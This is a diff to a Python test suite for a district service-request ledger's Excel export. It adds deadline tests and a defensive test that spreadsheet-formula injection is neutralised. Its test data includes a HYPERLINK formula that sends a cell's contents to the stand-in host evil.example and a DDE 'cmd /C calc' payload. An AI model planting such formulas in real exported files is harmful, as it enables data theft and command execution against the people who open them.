@@ -5,6 +5,7 @@ batches. The workbook is written to memory and opened again with openpyxl."""
 from __future__ import annotations
 
 import io
+import zipfile
 from datetime import UTC, datetime, timedelta
 from zoneinfo import ZoneInfo
 
@@ -18,14 +19,21 @@ from domain.areas import Area, area_of, area_of_unit
 from domain.clock import ManualClock
 from domain.deadlines import DEFAULT_POLICY
 from domain.i18n import translator
-from domain.ledger import COLUMNS, Viewer, accept_outcome, resolve_outcome, write_ledger
+from domain.ledger import (
+    COLUMNS,
+    Viewer,
+    accept_outcome,
+    resolve_deadline,
+    resolve_outcome,
+    write_ledger,
+)
 from domain.lifecycle import Action
 from domain.reports import parse_period
 from domain.requests import submit_request, transition
-from domain.verdicts import BY_REPORTER, close_request, record_verdict
+from domain.verdicts import BY_REPORTER, close_request, record_verdict, reopen
 from schedules.sweep import sweep
 from storage.database import Database
-from storage.models import Account, Beneficiary, Request, Staff
+from storage.models import Account, Beneficiary, Request, Staff, Unit
 
 ZONE = ZoneInfo("Asia/Shanghai")
 NOW = datetime(2026, 11, 30, 10, 0, tzinfo=ZONE).astimezone(UTC)
@@ -289,7 +297,7 @@ async def test_every_cell_of_a_row(db: Database, district: dict[str, int]) -> No
         "urgent",
         0,
         datetime(2026, 11, 2, 11, 0),
-        None,
+        datetime(2026, 11, 3, 10, 0),  # the grid member's resolve deadline, which passed
         "met",
         "missed",
         None,
@@ -317,7 +325,7 @@ async def test_every_cell_of_a_row(db: Database, district: dict[str, int]) -> No
         "normal",
         0,
         datetime(2026, 11, 11, 9, 0),
-        None,
+        datetime(2026, 11, 19, 9, 0),  # resolved within the resolve deadline
         "met",
         "met",
         "solved",
@@ -534,3 +542,121 @@ async def test_a_department_sees_its_remit_only(db: Database, district: dict[str
     assert rows[0][0] == "青石区 · 2026-11"
     assert rows[1][0] == translator("zh_CN")._("Only the categories in your remit are counted.")
     assert rows[4][:7] == ["合计", 3, 1, 1, 1, 2, 2]
+
+
+FORMULAS = {
+    "reporter": '=HYPERLINK("http://evil.example/?"&I2,"详情")',
+    "beneficiary": "+86 138",
+    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "grid": "-2+3",
+    "assignee": "＝1+1",
+    "community": "=1+1",
+}
+
+
+async def test_no_cell_carries_a_formula(db: Database, district: dict[str, int]) -> None:
+    """Names, comments and roster labels that start like a formula stay text: the workbook has
+    no formula cell (nor any <f> element), shows each as typed, and marks it quote-prefixed so
+    that editing it in Excel or WPS keeps it text."""
+    async with db.transaction() as session:
+        request = await session.get(Request, district["closed"])
+        assert request is not None
+        reporter = await session.get(Account, request.reporter_account_id)
+        beneficiary = await session.get(Beneficiary, request.beneficiary_id)
+        grid = await session.get(Unit, request.grid_code)
+        holder = await session.get(Staff, request.assignee_staff_id)
+        community = await session.get(Unit, "QS-JB-TH")
+        assert reporter and beneficiary and grid and holder and community
+        reporter.display_name = FORMULAS["reporter"]
+        beneficiary.name = FORMULAS["beneficiary"]
+        request.verdict_comment = FORMULAS["comment"]
+        grid.name = grid.name_en = FORMULAS["grid"]
+        holder.name = FORMULAS["assignee"]
+        community.name = community.name_en = FORMULAS["community"]
+        session.add_all([reporter, beneficiary, request, grid, holder, community])
+    async with db.session() as session:
+        area = await area_of_unit(session, "QS-JB-TH")
+    assert area is not None and NOVEMBER is not None
+    for language in ("en", "zh_CN"):
+        buffer = io.BytesIO()
+        async with db.session() as session:
+            await write_ledger(
+                session,
+                area,
+                NOVEMBER,
+                buffer,
+                t=translator(language),
+                zone=ZONE,
+                viewer=Viewer(all_phones=True),
+                now=NOW,
+            )
+        with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
+            for name in archive.namelist():
+                if name.startswith("xl/worksheets/"):
+                    assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
+        book = load_workbook(io.BytesIO(buffer.getvalue()))
+        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+        by_value = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
+        title = next(v for v in by_value if v.startswith(FORMULAS["community"] + " · "))
+        by_value[FORMULAS["community"]] = by_value[title]  # the figures' title: area · period
+        for value in FORMULAS.values():
+            assert value in by_value, (language, value)
+            assert by_value[value].data_type == "s"
+            assert by_value[value].quotePrefix, (language, value)
+        # Ordinary text is not marked.
+        assert not by_value[ref(district["closed"])].quotePrefix
+
+
+def test_the_resolve_deadline_shown() -> None:
+    """Open: the current holder's. Resolved or closed: the first that passed, if one did,
+    else the one it was resolved within. Cancelled: what is left (nothing)."""
+    current, missed, within = NOW + timedelta(days=1), NOW - timedelta(days=3), NOW
+    assert resolve_deadline(request(resolve_due_at=current)) == current
+    assert resolve_deadline(request(resolve_due_at=current, resolve_missed_due_at=missed)) == (
+        current
+    )
+    for status in ("resolved", "closed"):
+        assert resolve_deadline(request(status=status, resolved_due_at=within)) == within
+        assert (
+            resolve_deadline(
+                request(status=status, resolved_due_at=within, resolve_missed_due_at=missed)
+            )
+            == missed
+        )
+        assert resolve_deadline(request(status=status)) is None  # resolved before 0012
+    assert resolve_deadline(request(status="cancelled")) is None
+
+
+async def test_a_reopened_request_keeps_the_deadline_it_missed(
+    db: Database, district: dict[str, int]
+) -> None:
+    """The escalated request missed the grid member's resolve deadline: reopened and resolved
+    on time at the community, it still shows that deadline, as "Resolved on time" still says
+    missed; the closed one, reopened and resolved again, shows its new holder's deadline."""
+    for key in ("escalated", "closed"):
+        async with db.transaction() as session:
+            row = await session.get(Request, district[key])
+            assert row is not None
+            await reopen(
+                session,
+                row,
+                local(11, 12, 9),
+                ZONE,
+                DEFAULT_POLICY,
+                reason="Still broken",
+                actor_account_id=row.reporter_account_id,
+            )
+        async with db.transaction() as session:
+            row = await session.get(Request, district[key])
+            assert row is not None and row.status == "assigned", (key, row and row.status)
+        await act(db, district[key], Action.ACCEPT, local(11, 12, 10))
+        await act(db, district[key], Action.RESOLVE, local(11, 12, 15))
+    async with db.session() as session:
+        escalated = await session.get(Request, district["escalated"])
+        closed = await session.get(Request, district["closed"])
+    assert escalated is not None and closed is not None
+    assert resolve_deadline(escalated) == local(11, 3, 10)
+    assert resolve_outcome(escalated, True, NOW) == "missed"
+    assert closed.resolved_due_at is not None and closed.resolved_due_at > local(11, 12, 15)
+    assert resolve_deadline(closed) == closed.resolved_due_at
